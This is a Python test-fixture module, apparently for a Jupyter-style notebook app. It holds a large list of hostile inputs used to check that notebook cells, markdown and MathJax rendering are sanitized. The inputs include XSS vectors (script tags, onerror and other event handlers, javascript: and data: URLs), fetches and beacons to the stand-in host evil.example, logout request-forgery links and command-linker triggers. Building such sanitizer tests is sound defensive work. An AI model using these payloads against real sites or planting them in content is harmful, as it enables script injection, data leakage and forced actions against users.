"""Texts made to attack their reader, for the tests of cells and of the panel."""

import re
from pathlib import Path

# The escapes in these payloads are decoded. Some contain lone surrogates.
PAYLOADS = [
    text.removeprefix("!esc ").encode("ascii").decode("unicode_escape")
    if text.startswith("!esc ")
    else text
    for text in (
        text.strip("\n")
        for text in (Path(__file__).parent / "hostile_payloads.txt")
        .read_text(encoding="utf-8")
        .partition("\n")[2]
        .split("%%%%\n")
    )
]
# The same, as far as they can be typed into a cell.
TYPEABLE_PAYLOADS = [re.sub("[\ud800-\udfff]", "", text) for text in PAYLOADS]

# The following are for a browser: a test replaces `alert(1)` by a mark that tells which payload
# ran, and evil.example by its own server. See `arm` in hostility.py.

# These do not make the page navigate away, so a control test can show what they would do.
TAME = (
    "<script>alert(1); document.title = 'pwned'; fetch('https://evil.example/fetched')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/image>",
    "<button data-commandlinker-command=notebook:select-all>free</button>",
    '<a href="#" data-commandlinker-command="notebook:select-all">free</a>',
)
MORE = (
    "![x](https://evil.example/a.png) ![x](<https://evil.example/b.png> 't')",
    "![x][evil] ![evil]\n\n[evil]: https://evil.example/c.png",
    "[![x](https://evil.example/d.png)](https://a.example) ![x](//evil.example/e.png)",
    "![x](/logout?hostile) ![x](logout?hostile) ![x](/api/kernels?hostile)",
    "<img src=/logout?hostile> <a href=/logout?hostile>x</a> [x](/lab?hostile)",
    "<picture><source srcset=https://evil.example/f.png><img srcset='//evil.example/g.png 2x'>",
    "<table background=https://evil.example/h.png><td><input type=image src=//evil.example/i.png>",
    "<video poster=https://evil.example/j.png></video><audio src=//evil.example/k.mp3 autoplay>",
    "<iframe src=https://evil.example/frame></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe><frameset onload=alert(1)>",
    "<svg><image href=https://evil.example/l.svg /><animate onbegin=alert(1) attributeName=x />",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><maction actiontype=toggle xlink:href='javascript:alert(1)' onclick=alert(1)>x</math>",
    "<style>@import '//evil.example/m.css'; *{background:url(//evil.example/n.png)}</style>",
    "<link rel=prefetch href=//evil.example/o><meta http-equiv=refresh content='0;/lab?hostile'>",
    "<base target=_self href=https://evil.example/><a href=p>x</a>",
    "<script type=module>import('https://evil.example/q.js').catch(() => alert(1))</script>",
    "<script type=math/tex>\\href{javascript:alert(1)}{x}</script><script>MathJax={}</script>",
    "<form action=javascript:alert(1)><button>a</button><input type=submit value=b></form>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example/r.swf>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<noscript><img src=//evil.example/s.png></noscript><xmp><img src=x onerror=alert(1)></xmp>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>x</dialog>",
    "<p onpointerenter=alert(1) onclick=alert(1) style=animation:x onanimationstart=alert(1)>x</p>",
    "<a href=javascript:alert(1) target=_self>x</a> <a href=//a.example ping=//evil.example>x",
    "[x](javascript:alert(1)//https://a.example) [x](JAVASCRIPT&#x3a;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>) [x](vbscript:alert(1)) <javascript:alert(1)>",
    "[x](https://a.example){data-commandlinker-command=notebook:select-all onclick=alert(1)}",
    '```mermaid\ngraph TD; A["<img src=//evil.example>"]; click A "javascript:alert(1)"\n```',
    "```{=html}\n<script>alert(1)</script>\n```\n\n```svg\n<svg onload=alert(1)></svg>\n```",
    "> | a | b |\n> |---|---|\n> | <img src=x onerror=alert(1)> | ![x](//evil.example/u.png) |",
)
# MathJax commands that do more than draw. None of these may reach MathJax.
FORMULAS = (
    r"$\href{javascript:alert(1)}{click}$",
    r"\(\style{background:url(https://evil.example/v.png)}{x}\)",
    r"$\class{jp-Dialog}{x}$",
    r"\[\require{html}\cssId{jupyterapp}{x}\]",
    r"$\unicode[url(https://evil.example/w.png)]{x41}$",
    r"$\bbox[background:url(https://evil.example/x.png)]{x}$",
    r"$\def\alpha{\href{javascript:alert(1)}{x}}$",
    r"\begin{equation}\href{javascript:alert(1)}{x}\end{equation}",
    r"$\data{commandlinker-command=notebook:select-all}{x}$",
)
